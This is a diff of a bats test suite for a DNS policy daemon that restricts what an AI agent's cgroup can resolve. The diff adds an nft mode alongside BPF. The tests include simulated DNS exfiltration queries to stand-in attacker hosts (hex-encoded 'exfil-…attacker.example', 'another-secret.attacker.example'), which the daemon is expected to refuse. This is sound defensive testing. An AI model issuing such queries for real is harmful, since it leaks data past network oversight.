@@ -1,11 +1,12 @@
 #!/usr/bin/env bats
 # SPDX-License-Identifier: MIT
-# The policy DNS: queries sent from the agent's cgroup straight to the
-# listener (127.0.0.1:15053 and [::1]:15053, UDP and TCP). The fake upstream
-# resolver runs in the server namespace at 198.51.100.1:53 and logs every
-# query it receives, so "no query left the machine" is a check on its log.
-# (The kernel's redirect of the agent's own port-53 traffic to the listener
-# is tested with the capture.)
+# The policy DNS: queries sent from the agent's cgroup, UDP and TCP, v4 and
+# v6: in BPF mode straight to the listener (127.0.0.1:15053, [::1]:15053),
+# in nft mode to port 53 of the fake resolver, which the ruleset sends to
+# the listener. The fake upstream resolver runs in the server namespace at
+# 198.51.100.1:53 and logs every query it receives, so "no query left the
+# machine" is a check on its log. (BPF mode's redirect of the agent's own
+# port-53 traffic to the listener is separate work.)
 
 load lib
 
@@ -58,9 +59,19 @@ teardown() {
 	egd_teardown
 }
 
-# ask [dig options...]: dig from the agent's cgroup, v4 listener by default
+# Where the agent asks: in nft mode the ruleset sends every DNS packet, to
+# any address, to the policy DNS (and refuses direct dials to its port), so
+# the agent asks the fake resolver's own address, which its packets never
+# reach; in BPF mode, until the kernel redirects port 53, the listener.
+if [ "$MODE" = nft ]; then
+	DNS4=$SRV4 DNS6=$SRV6 DPORT=53
+else
+	DNS4=127.0.0.1 DNS6=::1 DPORT=15053
+fi
+
+# ask [dig options...]: dig from the agent's cgroup
 ask() {
-	agent dig +time=2 +tries=1 -p 15053 "$@"
+	agent dig +time=2 +tries=1 -p $DPORT "$@"
 }
 
 upstream_saw() { # upstream_saw QNAME QTYPE
@@ -68,26 +79,26 @@ upstream_saw() { # upstream_saw QNAME QTYPE
 }
 
 @test "agent phase: an arbitrary name is REFUSED over UDP and TCP, and no query leaves" {
-	run ask @127.0.0.1 exfil-6c65616b.attacker.example A
+	run ask @$DNS4 exfil-6c65616b.attacker.example A
 	[ "$status" -eq 0 ]
 	[[ "$output" == *"status: REFUSED"* ]]
-	run ask @127.0.0.1 +tcp another-secret.attacker.example TXT
+	run ask @$DNS4 +tcp another-secret.attacker.example TXT
 	[[ "$output" == *"status: REFUSED"* ]]
-	run ask @::1 +tcp v6-secret.attacker.example AAAA
+	run ask @$DNS6 +tcp v6-secret.attacker.example AAAA
 	[[ "$output" == *"status: REFUSED"* ]]
-	run ask @::1 v6-udp.attacker.example A
+	run ask @$DNS6 v6-udp.attacker.example A
 	[[ "$output" == *"status: REFUSED"* ]]
 	sleep 0.3
 	[ ! -s "$UP" ]
 }
 
 @test "agent phase: the intercept host gets the daemon's A and AAAA, TTL capped at 30" {
-	run ask @127.0.0.1 openrouter.ai A +noall +answer
+	run ask @$DNS4 openrouter.ai A +noall +answer
 	[ "$status" -eq 0 ]
 	[[ "$output" == *"$SRV4"* ]]
 	ttl=$(awk '$4 == "A" { print $2 }' <<<"$output")
 	[ -n "$ttl" ] && [ "$ttl" -le 30 ]
-	run ask @::1 +tcp openrouter.ai AAAA +noall +answer
+	run ask @$DNS6 +tcp openrouter.ai AAAA +noall +answer
 	[[ "$output" == *"$SRV6"* ]]
 	# The daemon asked the resolver itself, once per type.
 	upstream_saw openrouter.ai A
@@ -95,22 +106,22 @@ upstream_saw() { # upstream_saw QNAME QTYPE
 }
 
 @test "agent phase: allowlisted names answered, exact and *.suffix, any case, trailing dot" {
-	run ask @127.0.0.1 PyPi.ORG. A +noall +answer
+	run ask @$DNS4 PyPi.ORG. A +noall +answer
 	[[ "$output" == *"198.51.100.8"* ]]
-	run ask @127.0.0.1 +tcp files.pythonhosted.org A +noall +answer
+	run ask @$DNS4 +tcp files.pythonhosted.org A +noall +answer
 	[[ "$output" == *"198.51.100.9"* ]]
 	# The apex of a wildcard is not on the list.
-	run ask @127.0.0.1 pythonhosted.org A
+	run ask @$DNS4 pythonhosted.org A
 	[[ "$output" == *"status: REFUSED"* ]]
 }
 
 @test "HTTPS, SVCB, TXT and ANY for an allowed name are NODATA, asked of nobody" {
 	for t in HTTPS SVCB TXT ANY; do
-		run ask @127.0.0.1 openrouter.ai $t
+		run ask @$DNS4 openrouter.ai $t
 		[[ "$output" == *"status: NOERROR"* ]]
 		[[ "$output" == *"ANSWER: 0"* ]]
 	done
-	run ask @127.0.0.1 +tcp pypi.org TXT
+	run ask @$DNS4 +tcp pypi.org TXT
 	[[ "$output" == *"status: NOERROR"* && "$output" == *"ANSWER: 0"* ]]
 	sleep 0.3
 	! grep -q '"qtype": "\(HTTPS\|SVCB\|TXT\|ANY\)"' "$UP"
@@ -118,25 +129,25 @@ upstream_saw() { # upstream_saw QNAME QTYPE
 
 @test "verification phase: other names are forwarded and relayed, ECS and cookies stripped" {
 	flip_to_verification
-	run ask @127.0.0.1 other.example TXT +subnet=203.0.113.0/24 +cookie
+	run ask @$DNS4 other.example TXT +subnet=203.0.113.0/24 +cookie
 	[[ "$output" == *"other-txt"* ]]
 	# The daemon's answer carries no cookie and no client subnet.
 	[[ "$output" != *"COOKIE:"* ]]
 	[[ "$output" != *"CLIENT-SUBNET"* ]]
 	# The TTL is capped on relayed answers too.
-	ttl=$(agent dig +time=2 +tries=1 -p 15053 @127.0.0.1 +tcp other.example A +noall +answer |
+	ttl=$(agent dig +time=2 +tries=1 -p $DPORT @$DNS4 +tcp other.example A +noall +answer |
 		awk '$4 == "A" { print $2 }')
 	[ -n "$ttl" ] && [ "$ttl" -le 30 ]
 	upstream_saw other.example TXT
 	# What reached the resolver had neither option.
 	! grep '"qname": "other.example"' "$UP" | grep -q '"options": \[[^]]'
 	# Another name's HTTPS record is passed on in this phase...
-	run ask @127.0.0.1 other.example HTTPS
+	run ask @$DNS4 other.example HTTPS
 	[[ "$output" == *"ANSWER: 1"* ]]
 	# ...the intercept host's never is.
-	run ask @127.0.0.1 openrouter.ai HTTPS
+	run ask @$DNS4 openrouter.ai HTTPS
 	[[ "$output" == *"ANSWER: 0"* ]]
-	run ask @127.0.0.1 +tcp openrouter.ai SVCB
+	run ask @$DNS4 +tcp openrouter.ai SVCB
 	[[ "$output" == *"ANSWER: 0"* ]]
 	! upstream_saw openrouter.ai HTTPS
 	! upstream_saw openrouter.ai SVCB
@@ -144,14 +155,15 @@ upstream_saw() { # upstream_saw QNAME QTYPE
 
 @test "verification phase: an unknown name gets the resolver's NXDOMAIN" {
 	flip_to_verification
-	run ask @127.0.0.1 nope.example A
+	run ask @$DNS4 nope.example A
 	[[ "$output" == *"status: NXDOMAIN"* ]]
 	upstream_saw nope.example A
 }
 
 @test "malformed, truncated, looping and multi-question messages never crash the daemon" {
-	agent python3 - <<'PY'
-import socket, struct
+	agent python3 - "$DNS4" "$DPORT" <<'PY'
+import socket, struct, sys
+H, P = sys.argv[1], int(sys.argv[2])
 def q(name=b"\x07example\x03com\x00", qd=1, extra=b""):
     return struct.pack("!6H", 0x1234, 0x0100, qd, 0, 0, 0) + name + b"\x00\x01\x00\x01" + extra
 cases = [
@@ -169,7 +181,7 @@ cases = [
 s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
 for c in cases:
     try:
-        s.sendto(c, ("127.0.0.1", 15053))
+        s.sendto(c, (H, P))
     except OSError:
         pass
 s.settimeout(0.5)
@@ -183,7 +195,7 @@ except socket.timeout:
     pass
 assert got >= 5, got
 # Over TCP: garbage frames, then a zero-length frame closes the connection.
-t = socket.create_connection(("127.0.0.1", 15053))
+t = socket.create_connection((H, P))
 for c in cases[3:8]:
     t.sendall(struct.pack("!H", len(c)) + c)
 t.sendall(b"\x00\x00")
@@ -191,19 +203,20 @@ t.settimeout(2)
 while t.recv(65535):
     pass
 PY
-	run ask @127.0.0.1 openrouter.ai A +short
+	run ask @$DNS4 openrouter.ai A +short
 	[[ "$output" == *"$SRV4"* ]]
 	kill -0 "$DAEMON_PID"
 	[ "$(metric 'egressd_dns_queries_total{verdict="malformed"}')" -ge 5 ]
 }
 
 @test "TCP: several queries on one connection, answered in any order with their IDs" {
-	agent python3 - <<'PY'
-import socket, struct
+	agent python3 - "$DNS4" "$DPORT" <<'PY'
+import socket, struct, sys
+H, P = sys.argv[1], int(sys.argv[2])
 def q(qid, name, qtype):
     wire = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\x00"
     return struct.pack("!6H", qid, 0x0100, 1, 0, 0, 0) + wire + struct.pack("!HH", qtype, 1)
-t = socket.create_connection(("127.0.0.1", 15053))
+t = socket.create_connection((H, P))
 msgs = [q(1, "openrouter.ai", 1), q(2, "evil.example", 1), q(3, "pypi.org", 28)]
 t.sendall(b"".join(struct.pack("!H", len(m)) + m for m in msgs))
 t.settimeout(5)
@@ -221,19 +234,19 @@ PY
 @test "UDP answers larger than the client's size are truncated (TC), TCP gets them whole" {
 	flip_to_verification
 	# Five TXT records of 200 bytes: over 512 (no EDNS), under 1232.
-	run ask @127.0.0.1 big.example TXT +noedns +ignore
+	run ask @$DNS4 big.example TXT +noedns +ignore
 	[[ "$output" == *"flags: qr tc"* ]]
 	[[ "$output" == *"ANSWER: 0"* ]]
-	run ask @127.0.0.1 big.example TXT +noedns
+	run ask @$DNS4 big.example TXT +noedns
 	[[ "$output" == *"ANSWER: 5"* ]]
-	run ask @127.0.0.1 big.example TXT +bufsize=1232
+	run ask @$DNS4 big.example TXT +bufsize=1232
 	[[ "$output" == *"ANSWER: 5"* && "$output" != *"flags: qr tc"* ]]
 }
 
 @test "one audit line per query, and metrics by verdict" {
-	ask @127.0.0.1 leak.attacker.example A >/dev/null
-	ask @127.0.0.1 +tcp openrouter.ai HTTPS >/dev/null
-	ask @127.0.0.1 openrouter.ai A >/dev/null
+	ask @$DNS4 leak.attacker.example A >/dev/null
+	ask @$DNS4 +tcp openrouter.ai HTTPS >/dev/null
+	ask @$DNS4 openrouter.ai A >/dev/null
 	sleep 0.2
 	audit_has event=dns phase=agent qname=leak.attacker.example qtype=A verdict=refuse \
 		rcode=REFUSED proto=udp
@@ -247,7 +260,7 @@ PY
 @test "the resolver down: allowed names get SERVFAIL, counted as upstream failures" {
 	kill "$SERVERS_PID"
 	wait "$SERVERS_PID" 2>/dev/null || true
-	run ask @127.0.0.1 pypi.org AAAA +time=8
+	run ask @$DNS4 pypi.org AAAA +time=8
 	[[ "$output" == *"status: SERVFAIL"* ]]
 	[ "$(metric 'egressd_dns_upstream_failures_total')" -ge 1 ]
 }
@@ -291,7 +304,7 @@ PY
 	run tls_get cdn.example openrouter.ai
 	[[ "$output" == *"hello-tls sni=cdn.example"* ]]
 	: >"$T/server.log"
-	run ask @127.0.0.1 openrouter.ai A +short
+	run ask @$DNS4 openrouter.ai A +short
 	[[ "$output" == *"$SRV4"* ]]
 	# Now the policy proxy answers, and the server sees nothing.
 	run tls_get cdn.example openrouter.ai
@@ -309,7 +322,7 @@ PY
 
 @test "verification phase: openrouter.ai's address under another name (CNAME) is policed too" {
 	flip_to_verification
-	run ask @127.0.0.1 alias.example A +noall +answer
+	run ask @$DNS4 alias.example A +noall +answer
 	[[ "$output" == *"CNAME"*"openrouter.ai."* && "$output" == *"$SRV4"* ]]
 	# Only the forwarded query reached the resolver: the daemon did not
 	# resolve openrouter.ai itself, so the address came from the relay.
